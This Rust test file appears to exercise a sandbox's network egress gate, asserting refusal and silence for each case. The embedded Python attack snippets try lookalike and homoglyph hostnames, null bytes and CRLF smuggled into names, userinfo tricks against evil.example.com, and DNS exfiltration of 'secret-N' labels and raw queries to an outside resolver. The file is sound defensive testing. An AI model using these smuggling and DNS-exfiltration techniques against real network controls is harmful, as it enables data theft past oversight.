//! Names that are to be read in two ways, and names as messages.

use crate::support::{attack, in_a_world};

#[test]
fn a_name_that_is_almost_the_granted_one_is_not() {
    in_a_world(|world, user| {
        let code = r#"
for host in ("evil.example.com", "api.example.com.evil.example.com", "xapi.example.com", "api.example.co", "example.com", "www.api.example.com", "api.example.com.", "аpi.example.com", "api-example.com", "localhost"):
    ways = [connect(f"{host}:443") if host.isascii() else "403", socks(host, 443), direct(host, 443)]
    say(host, " ".join(ways))
"#;
        let over = attack(world, user, &["api.example.com"], code);
        for (host, how) in over.said() {
            let last = match host.as_str() {
                // The granted port is the gate's at every address inside; this one was not granted.
                "localhost" => "cut",
                // The resolver is asked for labels, which have no final dot: this is the granted name, without TLS.
                "api.example.com." => "cut",
                _ => "no-such-name",
            };
            assert!([format!("403 2 {last}"), format!("400 2 {last}")].contains(&how), "{host}: {how}");
        }
        assert_eq!(over.said().len(), 10);
        over.assert_reasons(&["not-granted", "bad-host", "bad-request", "not-tls"]);
        world.assert_unreached();
    });
}

#[test]
fn control_characters_userinfo_and_separators_end_no_name() {
    in_a_world(|world, user| {
        let code = r#"
for name in (b"api.example.com\0.evil.example.com", b"api.example.com\r\nX y", b"api.example.com\n", b"api.example.com ", b"api.example.com%00", b"api.example.com/", b"api.example.com@evil.example.com",
    b"evil.example.com#api.example.com", b"api.example.com\\.evil.example.com", b"api.example.com,evil.example.com", b"*.example.com", b"\xff\xfe", b"", b"a" * 255, b"a." * 120 + b"example.com", b"/run/gate.sock", b"unix:gate", b"\0abstract"):
    say(repr(name), socks(name[:255], 443))
for target in ("user@api.example.com:443", "user:pass@evil.example.com:443", "api.example.com:443@evil.example.com:443", "api.example.com:443/", "api.example.com", "api.example.com:", "api.example.com:0443", "api.example.com:99999", "api.example.com:-1", "api.example.com:443 evil.example.com:443"):
    say(target, connect(target, "api.example.com:443"))
"#;
        let over = attack(world, user, &["api.example.com"], code);
        for (name, how) in over.said() {
            // A name of no octets is no request of SOCKS at all.
            assert!(["2", "1", "5", "400", "403", "closed"].contains(&how.as_str()), "{name}: {how}");
        }
        over.assert_reasons(&["bad-host", "bad-request", "not-granted", "host-header", "budget", "port"]);
        assert!(over.refusals().iter().all(|(asked, _)| !asked.contains(char::is_control)), "{:?}", over.refusals());
        world.assert_silent();
    });
}

/// What is asked of the run's own resolver stays there: no granted name, no question outside.
#[test]
fn labels_of_names_carry_nothing_out() {
    in_a_world(|world, user| {
        let code = r#"
for number in range(30):
    try: socket.getaddrinfo(f"secret-{number}.evil.example.com", 443); say(f"{number}", "resolved")
    except socket.gaierror: pass
for number in range(30):
    how = connect(f"secret-{number}.evil.example.com:443")
    if how != "403": say(f"{number}", how)
    if socks(f"secret-{number}.api.example.com", 443) != "2": say(f"{number}", how)
# To the machine's resolver itself, past the run's own.
query = b"\x00\x07\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x03com\x00\x00\x01\x00\x01"
attempt("elsewhere", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("203.0.113.80", 53)))
say("stream", direct("203.0.113.80", 53))
say("proxy", connect("203.0.113.80:53"))
"#;
        let over = attack(world, user, &["api.example.com"], code);
        over.assert_said(&[("elsewhere", "ENETUNREACH"), ("stream", "ENETUNREACH"), ("proxy", "403")]);
        over.assert_reasons(&["not-granted"]);
        world.assert_silent();
    });
}

#[test]
fn a_granted_name_that_is_only_asked_for_is_not_resolved_outside() {
    in_a_world(|world, user| {
        let code = "say('address', socket.gethostbyname('dns.example.com').startswith('198.18.'))\nsay('kind', len(socket.getaddrinfo('x.dns.example.com', 1)))";
        let over = attack(world, user, &["dns.example.com", "*.dns.example.com"], code);
        over.assert_said(&[("address", "True"), ("kind", "3")]);
        world.assert_silent();
    });
}

#[test]
fn names_below_a_wildcard_are_counted_and_short() {
    in_a_world(|world, user| {
        let code = r#"
refused = [socks(f"secret-{number}.example.com", 443) for number in range(80)]
say("first", refused[0])
say("last", refused[-1])
say("long", socks("a" * 60 + "." + "b" * 60 + "." + "c" * 60 + ".example.com", 443))
"#;
        let over = attack(world, user, &["*.example.com"], code);
        // The first is a name that does not resolve; later ones are not even asked for.
        assert_ne!(over.said()["first"], "2");
        assert_eq!((over.said()["last"].as_str(), over.said()["long"].as_str()), ("2", "2"));
        let asked = world.requests("names").iter().filter(|one| one.starts_with("A secret-")).count();
        assert!((1..=64).contains(&asked), "{asked}");
        over.assert_reasons(&["unresolved", "budget"]);
    });
}
